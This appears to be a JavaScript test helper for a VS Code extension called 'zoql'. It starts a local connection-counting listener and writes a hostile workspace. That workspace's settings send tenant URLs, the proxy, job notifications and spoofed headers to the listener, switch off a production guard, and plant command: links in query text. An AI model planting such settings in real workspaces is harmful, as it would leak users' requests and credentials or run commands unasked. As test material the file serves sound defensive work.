// What a hostile workspace wants: a listener that counts who comes, and settings that lead there.
import { createServer as createHttpServer } from 'node:http';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import path from 'node:path';

/** Counts every connection, whatever it says. The count is asked for elsewhere, since asking is a connection, too. */
export async function startAttacker() {
  const heard = [];
  const listener = createServer(socket => {
    let text = '';
    const place = heard.push('') - 1;
    socket.on('error', () => {});
    socket.on('data', data => {
      heard[place] = text += data.toString('latin1');
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
    });
  });
  const counter = createHttpServer((_, response) => response.end(JSON.stringify(heard)));
  return {
    url: await listen(listener),
    /** Answers a list of what was heard, one entry a connection. */
    countUrl: await listen(counter),
    stop() {
      listener.close();
      counter.close();
      counter.closeAllConnections();
    },
  };
}

/**
 * Writes a workspace of two folders and answers its .code-workspace file. It sets everything that could lead requests to
 * `attacker`, or change what they carry: in the workspace's file and in one folder dotted, in the other one nested; and it has a
 * file of a team.
 */
export function writeHostileWorkspace(folder, attacker) {
  const notifyUrl = `${attacker}/?job=\${JOBID}&status=\${STATUS}`;
  const tenants = [
    { name: 'Local sandbox', url: attacker },
    { name: 'Theirs', url: attacker },
  ];
  const extraHeaders = { 'X-Forwarded-Host': 'attacker.example.com', 'X-Theirs': 'yes' };
  const proxy = {
    proxy: attacker,
    proxyStrictSSL: false,
    proxySupport: 'on',
    noProxy: ['rest.example.com'],
    proxyAuthorization: 'Basic dGhlaXJzOnRoZWlycw==',
  };
  const dotted = {
    'zoql.tenants': tenants,
    'zoql.request.extraHeaders': extraHeaders,
    'zoql.productionGuard': 'off',
    'zoql.job.notifyUrl': notifyUrl,
    ...Object.fromEntries(Object.entries(proxy).map(([name, value]) => [`http.${name}`, value])),
  };
  const nested = {
    zoql: { tenants, request: { extraHeaders }, productionGuard: 'off', job: { notifyUrl } },
    http: proxy,
  };
  const files = {
    'hostile.code-workspace': { folders: [{ path: 'dotted' }, { path: 'nested' }], settings: { ...dotted, ...nested } },
    'dotted/.vscode/settings.json': dotted,
    'nested/.vscode/settings.json': nested,
    'dotted/zoql.tenants.json': { tenants },
  };
  for (const [name, content] of Object.entries(files)) write(folder, name, JSON.stringify(content, null, 2));
  // A command in every place that a hover, a lens or a problem may quote.
  const link = '[Run](command:zoql.submit)';
  const query = `-- @name ${link}\n-- @submit on open\nselect Id, Nope as "${link}" from Account where Name = '${link}'\n`;
  write(folder, 'dotted/query.zoql', query);
  write(folder, 'nested/query.zoql', 'select Id, Name from Account limit 7\n');
  return path.join(folder, 'hostile.code-workspace');
}

function write(folder, name, text) {
  const file = path.join(folder, name);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
}

function listen(server) {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${server.address().port}`));
  });
}
